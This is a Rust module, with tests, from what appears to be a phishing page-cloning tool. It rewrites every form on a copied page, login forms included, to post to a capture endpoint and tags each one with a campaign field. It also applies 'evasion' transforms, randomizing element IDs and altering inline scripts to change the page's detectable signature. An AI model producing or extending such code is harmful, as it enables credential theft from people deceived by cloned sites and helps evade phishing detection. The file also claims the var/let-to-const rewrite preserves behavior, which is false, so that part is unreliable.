//! Document rewriting.
//!
//! Parses the fetched page into a mutable tree, points localized
//! references at their stored files, wires every form to the capture
//! endpoint, applies the evasion transforms and serializes the result.
//! Transform failures degrade; the capture flow (submittable forms) is
//! never broken.

use std::cell::RefCell;
use std::collections::HashMap;
use std::rc::Rc;

use html5ever::serialize::{serialize, SerializeOpts};
use html5ever::tendril::TendrilSink;
use html5ever::{Attribute, LocalName, Namespace, ParseOpts, QualName};
use markup5ever_rcdom::{Handle, Node, NodeData, RcDom, SerializableHandle};
use rand::Rng;

use crate::cloner::EvasionOptions;

const HTML_NS: &str = "http://www.w3.org/1999/xhtml";

const ID_CHARSET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
const ID_LENGTH: usize = 12;

/// Counts reported back to the clone report.
#[derive(Debug, Default)]
pub struct RewriteOutcome {
    pub refs_rewritten: usize,
    pub forms_rewritten: usize,
}

struct RewriteContext<'a> {
    replacements: &'a HashMap<String, String>,
    campaign: Option<&'a str>,
    capture_path: &'a str,
    evasion: &'a EvasionOptions,
    outcome: RewriteOutcome,
}

/// Rewrite the document and serialize it back to HTML.
pub fn rewrite_document(
    html: &str,
    replacements: &HashMap<String, String>,
    campaign: Option<&str>,
    capture_path: &str,
    evasion: &EvasionOptions,
) -> (String, RewriteOutcome) {
    let dom = html5ever::parse_document(RcDom::default(), ParseOpts::default()).one(html);

    let mut ctx = RewriteContext {
        replacements,
        campaign,
        capture_path,
        evasion,
        outcome: RewriteOutcome::default(),
    };
    walk(&dom.document, &mut ctx);

    let mut bytes = Vec::new();
    let document: SerializableHandle = dom.document.clone().into();
    serialize(&mut bytes, &document, SerializeOpts::default())
        .expect("serialization to memory");

    (String::from_utf8_lossy(&bytes).into_owned(), ctx.outcome)
}

fn walk(handle: &Handle, ctx: &mut RewriteContext<'_>) {
    if let NodeData::Element {
        ref name,
        ref attrs,
        ..
    } = handle.data
    {
        let tag: &str = &name.local;
        match tag {
            "link" => {
                if rel_is_stylesheet(attrs) && swap_reference(attrs, "href", ctx.replacements) {
                    ctx.outcome.refs_rewritten += 1;
                }
            }
            "script" => {
                if get_attr(attrs, "src").is_some() {
                    if swap_reference(attrs, "src", ctx.replacements) {
                        ctx.outcome.refs_rewritten += 1;
                    }
                } else if ctx.evasion.obfuscate_scripts {
                    obfuscate_script(handle);
                }
            }
            "img" => {
                if swap_reference(attrs, "src", ctx.replacements) {
                    ctx.outcome.refs_rewritten += 1;
                }
            }
            "form" => {
                rewrite_form(handle, attrs, ctx);
                ctx.outcome.forms_rewritten += 1;
            }
            _ => {}
        }

        if ctx.evasion.randomize_ids && get_attr(attrs, "id").is_some() {
            set_attr(attrs, "id", &random_id());
        }
    }

    let children: Vec<Handle> = handle.children.borrow().iter().cloned().collect();
    for child in &children {
        walk(child, ctx);
    }
}

/// Point a localized reference at its stored file.
fn swap_reference(
    attrs: &RefCell<Vec<Attribute>>,
    attr: &str,
    replacements: &HashMap<String, String>,
) -> bool {
    let Some(value) = get_attr(attrs, attr) else {
        return false;
    };
    let Some(local) = replacements.get(&value) else {
        return false;
    };
    set_attr(attrs, attr, local);
    true
}

/// Wire a form to the capture endpoint: POST action, hidden campaign
/// field, honeypot field. Original fields are never removed.
fn rewrite_form(handle: &Handle, attrs: &RefCell<Vec<Attribute>>, ctx: &RewriteContext<'_>) {
    set_attr(attrs, "action", ctx.capture_path);
    set_attr(attrs, "method", "POST");

    if let Some(campaign) = ctx.campaign {
        append_input(
            handle,
            &[("type", "hidden"), ("name", "campaign"), ("value", campaign)],
        );
    }
    append_input(
        handle,
        &[("type", "text"), ("name", "honeypot"), ("style", "display:none")],
    );
}

/// Append an `<input>` element to a form.
fn append_input(parent: &Handle, attributes: &[(&str, &str)]) {
    let node = Node::new(NodeData::Element {
        name: QualName::new(None, Namespace::from(HTML_NS), LocalName::from("input")),
        attrs: RefCell::new(
            attributes
                .iter()
                .map(|(name, value)| Attribute {
                    name: attr_name(name),
                    value: (*value).into(),
                })
                .collect(),
        ),
        template_contents: RefCell::new(None),
        mathml_annotation_xml_integration_point: false,
    });
    node.parent.set(Some(Rc::downgrade(parent)));
    parent.children.borrow_mut().push(node);
}

/// Rewrite declaration keywords in inline script text to shift the static
/// signature without changing behavior.
fn obfuscate_script(handle: &Handle) {
    for child in handle.children.borrow().iter() {
        if let NodeData::Text { ref contents } = child.data {
            let rewritten = replace_token(&replace_token(&contents.borrow(), "var", "const"), "let", "const");
            *contents.borrow_mut() = rewritten.as_str().into();
        }
    }
}

/// Replace standalone occurrences of an identifier-like token.
fn replace_token(input: &str, from: &str, to: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let bytes = input.as_bytes();
    let mut i = 0;

    while let Some(pos) = input[i..].find(from) {
        let start = i + pos;
        let end = start + from.len();
        let boundary_before = start == 0 || !is_ident_byte(bytes[start - 1]);
        let boundary_after = end == input.len() || !is_ident_byte(bytes[end]);

        out.push_str(&input[i..start]);
        out.push_str(if boundary_before && boundary_after { to } else { from });
        i = end;
    }
    out.push_str(&input[i..]);
    out
}

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

fn random_id() -> String {
    let mut rng = rand::thread_rng();
    (0..ID_LENGTH)
        .map(|_| ID_CHARSET[rng.gen_range(0..ID_CHARSET.len())] as char)
        .collect()
}

fn attr_name(name: &str) -> QualName {
    QualName::new(None, Namespace::from(""), LocalName::from(name))
}

fn rel_is_stylesheet(attrs: &RefCell<Vec<Attribute>>) -> bool {
    get_attr(attrs, "rel")
        .map(|rel| {
            rel.split_whitespace()
                .any(|token| token.eq_ignore_ascii_case("stylesheet"))
        })
        .unwrap_or(false)
}

fn get_attr(attrs: &RefCell<Vec<Attribute>>, name: &str) -> Option<String> {
    attrs
        .borrow()
        .iter()
        .find(|a| &*a.name.local == name)
        .map(|a| a.value.to_string())
}

fn set_attr(attrs: &RefCell<Vec<Attribute>>, name: &str, value: &str) {
    let mut attrs = attrs.borrow_mut();
    match attrs.iter_mut().find(|a| &*a.name.local == name) {
        Some(existing) => existing.value = value.into(),
        None => attrs.push(Attribute {
            name: attr_name(name),
            value: value.into(),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use scraper::{Html, Selector};

    fn no_evasion() -> EvasionOptions {
        EvasionOptions {
            obfuscate_scripts: false,
            randomize_ids: false,
        }
    }

    #[test]
    fn test_both_forms_wired_to_capture() {
        let html = r#"
            <html><body>
                <form action="https://example.com/login" method="GET">
                    <input type="text" name="username">
                    <input type="password" name="password">
                </form>
                <form action="/newsletter">
                    <input type="email" name="email">
                </form>
            </body></html>
        "#;

        let (out, outcome) = rewrite_document(
            html,
            &HashMap::new(),
            Some("demo"),
            "/capture",
            &no_evasion(),
        );
        assert_eq!(outcome.forms_rewritten, 2);

        let doc = Html::parse_document(&out);
        let forms = Selector::parse("form").unwrap();
        let mut count = 0;
        for form in doc.select(&forms) {
            count += 1;
            assert_eq!(form.value().attr("action"), Some("/capture"));
            assert_eq!(form.value().attr("method"), Some("POST"));
        }
        assert_eq!(count, 2);

        // Hidden campaign + honeypot fields added to each form, original
        // fields intact.
        let campaign_inputs = Selector::parse(r#"input[name="campaign"]"#).unwrap();
        assert_eq!(doc.select(&campaign_inputs).count(), 2);
        let honeypots = Selector::parse(r#"input[name="honeypot"]"#).unwrap();
        assert_eq!(doc.select(&honeypots).count(), 2);
        let originals = Selector::parse(r#"input[name="username"], input[name="password"], input[name="email"]"#).unwrap();
        assert_eq!(doc.select(&originals).count(), 3);
    }

    #[test]
    fn test_form_without_campaign_gets_only_honeypot() {
        let html = r#"<form><input name="user"></form>"#;
        let (out, _) = rewrite_document(html, &HashMap::new(), None, "/capture", &no_evasion());

        let doc = Html::parse_document(&out);
        let campaign_inputs = Selector::parse(r#"input[name="campaign"]"#).unwrap();
        assert_eq!(doc.select(&campaign_inputs).count(), 0);
        let honeypots = Selector::parse(r#"input[name="honeypot"]"#).unwrap();
        assert_eq!(doc.select(&honeypots).count(), 1);
    }

    #[test]
    fn test_localized_references_are_swapped() {
        let html = r#"
            <html><head>
                <link rel="stylesheet" href="/css/main.css">
                <script src="app.js"></script>
            </head><body>
                <img src="logo.png">
                <img src="remote.png">
            </body></html>
        "#;

        let mut replacements = HashMap::new();
        replacements.insert("/css/main.css".to_string(), "assets/aa11.css".to_string());
        replacements.insert("app.js".to_string(), "assets/bb22.js".to_string());
        replacements.insert("logo.png".to_string(), "assets/cc33.png".to_string());

        let (out, outcome) =
            rewrite_document(html, &replacements, None, "/capture", &no_evasion());
        assert_eq!(outcome.refs_rewritten, 3);
        assert!(out.contains("assets/aa11.css"));
        assert!(out.contains("assets/bb22.js"));
        assert!(out.contains("assets/cc33.png"));
        // The failed download keeps its original reference.
        assert!(out.contains("remote.png"));
    }

    #[test]
    fn test_id_randomization() {
        let html = r#"<div id="login-box"><span id="msg">hi</span></div>"#;
        let evasion = EvasionOptions {
            obfuscate_scripts: false,
            randomize_ids: true,
        };
        let (out, _) = rewrite_document(html, &HashMap::new(), None, "/capture", &evasion);
        assert!(!out.contains("login-box"));
        assert!(!out.contains("id=\"msg\""));

        let doc = Html::parse_document(&out);
        let with_id = Selector::parse("[id]").unwrap();
        for element in doc.select(&with_id) {
            let id = element.value().attr("id").unwrap();
            assert_eq!(id.len(), ID_LENGTH);
        }
    }

    #[test]
    fn test_ids_left_alone_when_disabled() {
        let html = r#"<div id="login-box"></div>"#;
        let (out, _) = rewrite_document(html, &HashMap::new(), None, "/capture", &no_evasion());
        assert!(out.contains("login-box"));
    }

    #[test]
    fn test_inline_script_token_rewrite() {
        let html = "<script>var x = 1; let y = 2; variable(letter);</script>";
        let evasion = EvasionOptions {
            obfuscate_scripts: true,
            randomize_ids: false,
        };
        let (out, _) = rewrite_document(html, &HashMap::new(), None, "/capture", &evasion);
        assert!(out.contains("const x = 1"));
        assert!(out.contains("const y = 2"));
        // Tokens inside identifiers are untouched.
        assert!(out.contains("variable(letter)"));
    }

    #[test]
    fn test_replace_token_boundaries() {
        assert_eq!(replace_token("var a", "var", "const"), "const a");
        assert_eq!(replace_token("avar a", "var", "const"), "avar a");
        assert_eq!(replace_token("var_x var", "var", "const"), "var_x const");
    }
}
